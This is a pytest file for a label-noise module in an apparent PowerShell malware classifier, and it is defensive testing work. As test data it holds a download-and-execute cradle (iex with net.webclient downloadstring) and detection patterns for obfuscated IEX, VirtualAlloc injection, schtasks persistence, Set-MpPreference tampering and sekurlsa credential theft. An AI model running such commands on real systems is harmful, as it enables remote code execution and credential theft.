"""Planted wrong labels are found, and suspicion alone drops nothing."""

import numpy as np
import polars as pl
import pytest

from psembed.models import noise
from psembed.runtime.errors import CorpusError, ParameterError

ATTACK = "iex (new-object net.webclient).downloadstring($u)"
TOOL = "function Invoke-Plunder { $x } Invoke-Plunder"
PLAIN = "$total = $one; $total"


def corpus(seed=0, groups=60, wrong=()):
    """Return scripts in groups of three; the groups in `wrong` have the label of the other class."""
    generator = np.random.default_rng(seed)
    rows = []
    for group in range(groups):
        malicious = group % 4 == 0
        for copy in range(3):
            nouns = " ".join(f"get-item noun{n}" for n in generator.integers(0, 50, 12).tolist())
            text = f"{nouns} {ATTACK} copy {copy}" if malicious else f"{nouns} copy {copy}"
            label = int(malicious != (group in wrong))
            rows.append({"clean": text, "label": label, "group": group, "source": f"s{group % 2}"})
    table = pl.DataFrame(rows, schema_overrides={"label": pl.Int8}).with_row_index("n")
    sha256 = pl.format("{}", pl.col("n")).str.zfill(64)
    return table.with_columns(sha256=sha256, stratum=pl.lit("all")).drop("n")


def samples(rows):
    """Return scripts from (label, clean) pairs."""
    table = [
        {"sha256": f"{n:064x}", "label": label, "clean": clean, "source": "a"}
        for n, (label, clean) in enumerate(rows)
    ]
    return pl.DataFrame(table, schema_overrides={"label": pl.Int8})


def doubted(table, probability=0.01):
    return table.select("sha256", "label", probability=pl.lit(probability))


def test_planted_wrong_labels_are_the_suspects_and_no_others():
    table = corpus(wrong=(4, 9, 30))
    found = noise.suspects(table, folds=5, seed=0)
    assert found.columns == ["sha256", "label", "probability"]
    planted = table.filter(pl.col("group").is_in([4, 9, 30]))
    assert set(found["sha256"]) == set(planted["sha256"])
    assert (found["probability"] < 0.5).all()
    assert found["probability"].is_sorted()
    given = found.join(table.select("sha256", own="label"), on="sha256")
    assert (given["label"] == given["own"]).all()


def test_right_labels_are_not_suspected():
    assert noise.suspects(corpus(), folds=4, seed=0).is_empty()


def test_suspects_repeat_with_their_seed():
    table = corpus(wrong=(4, 9))
    one, two = (noise.suspects(table, folds=3, seed=7) for _ in range(2))
    assert one.equals(two)


def test_no_group_is_scored_by_a_model_that_has_seen_it(monkeypatch):
    table, seen, scored = corpus(), [], []

    class Spy:
        def score(self, texts):
            scored.append(set(texts))
            return np.full(len(texts), 0.5)

    def fit(name, texts, labels, *, seed):
        seen.append(set(texts))
        return Spy()

    monkeypatch.setattr(noise.baselines, "fit", fit)
    noise._out_of_fold(table, 5, 0)
    group_of = dict(zip(table["clean"], table["group"], strict=True))
    assert len(scored) == 5
    assert sorted(text for fold in scored for text in fold) == sorted(table["clean"])
    label_of = dict(zip(table["clean"], table["label"], strict=True))
    for train, held in zip(seen, scored, strict=True):
        assert not {group_of[text] for text in train} & {group_of[text] for text in held}
        assert sum(label_of[text] for text in held) == 9  # of 45: every fold has its share


def test_signatures_are_what_offensive_tools_define_and_no_benign_repository_knows():
    scripts = pl.DataFrame(
        [
            ("offensive", "function Invoke-Plunder { } filter global:Get-Loot { } function Get-Item2 { }"),
            ("offensive", "function helper { } Invoke-Called function INVOKE-plunder { }"),
            ("benign", "if ($x) { get-ITEM2 }"),
            ("labelled", "Get-Loot"),
        ],
        schema=["kind", "clean"],
        orient="row",
    )
    assert noise.signatures(scripts) == ["get-loot", "invoke-plunder"]
    assert noise.signatures(scripts.filter(pl.col("kind") == "benign")) == []
    without = noise.signatures(scripts.filter(pl.col("kind") != "benign"))
    assert without == ["get-item2", "get-loot", "invoke-plunder"]


def test_a_function_that_is_only_called_is_not_defined():
    texts = pl.Series([TOOL, "Invoke-Plunder", "function script:Get-Loot-All($x) { }", "'no function'", ""])
    assert noise.defines(texts).to_list() == [["invoke-plunder"], [], ["get-loot-all"], [], []]


def test_each_rule_drops_what_it_names_and_says_why():
    table = samples([(0, TOOL), (1, TOOL), (0, PLAIN), (1, PLAIN), (1, ATTACK), (0, ATTACK)])
    found = noise.drops(table, doubted(table), ["invoke-plunder"])
    assert found.columns == ["sha256", "label", "source", "reason", "probability"]
    assert found.select("sha256", "label", "reason").rows() == [
        (f"{0:064x}", 0, noise.DROP_TOOL),
        (f"{3:064x}", 1, noise.DROP_HARMLESS),
    ]


def test_suspicion_alone_drops_nothing_however_sure_the_classifier_is():
    hard = [(1, ATTACK), (0, ATTACK), (1, "a long text. " * 100), (0, PLAIN), (0, "Invoke-Plunder")]
    table = samples(hard)
    assert noise.drops(table, doubted(table, 0.0), ["invoke-plunder"]).is_empty()


def test_evidence_alone_drops_nothing():
    table = samples([(0, TOOL), (1, PLAIN)])
    assert noise.drops(table, doubted(table).clear(), ["invoke-plunder"]).is_empty()
    assert noise.drops(table, doubted(table), ["invoke-plunder"]).height == 2


def test_a_rule_does_not_read_the_probability():
    table = samples([(0, TOOL), (1, PLAIN), (0, PLAIN), (1, ATTACK)])
    sure, unsure = (noise.drops(table, doubted(table, p), ["invoke-plunder"]) for p in (0.0, 0.49))
    assert sure.drop("probability").equals(unsure.drop("probability"))
    assert unsure["probability"].to_list() == [0.49, 0.49]


@pytest.mark.parametrize(
    ("family", "text"),
    [
        ("download", "Net.WebClient"),
        ("execute", "I`E`X $a"),
        ("execute", "&('ie'+'x') $a"),
        ("decode", "[Convert]::FromBase64String($a)"),
        ("inject", "VirtualAlloc"),
        ("persist", "schtasks /create"),
        ("defence tampering", "Set-MpPreference"),
        ("remote command", "New-Object Net.Sockets.TcpClient"),
        ("credential", "sekurlsa"),
        ("destroy or encrypt", "Remove-Item $a"),
        ("concealed", "'ab' + 'cd'"),
        ("concealed", "65,66,67,68,69,70,"),
        ("concealed", "\u0430\u0431"),
    ],
)
def test_every_capability_keeps_a_malicious_label(family, text):
    table = samples([(1, text), (1, PLAIN)])
    assert noise.capable(table["clean"]).to_list() == [True, False], family
    assert noise.drops(table, doubted(table), [])["sha256"].to_list() == [f"{1:064x}"]


def test_a_long_harmless_text_keeps_its_label():
    table = samples([(1, text := "abc " * (noise.SHORT // 4)), (1, text[1:])])
    assert noise.drops(table, doubted(table), [])["sha256"].to_list() == [f"{1:064x}"]


@pytest.mark.parametrize("folds", [1, 0, -2, 2.0, None])
def test_impossible_folds_are_named(folds):
    with pytest.raises(ParameterError, match="folds is"):
        noise.suspects(corpus(), folds=folds, seed=0)


def test_bad_input_is_named():
    table = corpus(groups=12)
    with pytest.raises(CorpusError, match=r"lacks group, stratum"):
        noise.suspects(table.drop("group", "stratum"), folds=3, seed=0)
    with pytest.raises(CorpusError, match=r"malicious scripts are of 3 group.*lower folds"):
        noise.suspects(table, folds=4, seed=0)
    unlabelled = pl.when(pl.col("group") > 10).then(None).otherwise("label").alias("label")
    with pytest.raises(CorpusError, match=r"label None of 3 script"):
        noise.suspects(table.with_columns(unlabelled), folds=3, seed=0)
    with pytest.raises(CorpusError, match="lacks kind"):
        noise.signatures(table)
    with pytest.raises(CorpusError, match="lacks probability"):
        noise.drops(table, table, [])
    other = doubted(table).with_columns(label=1 - pl.col("label"))
    with pytest.raises(CorpusError, match="different runs"):
        noise.drops(table, other, [])
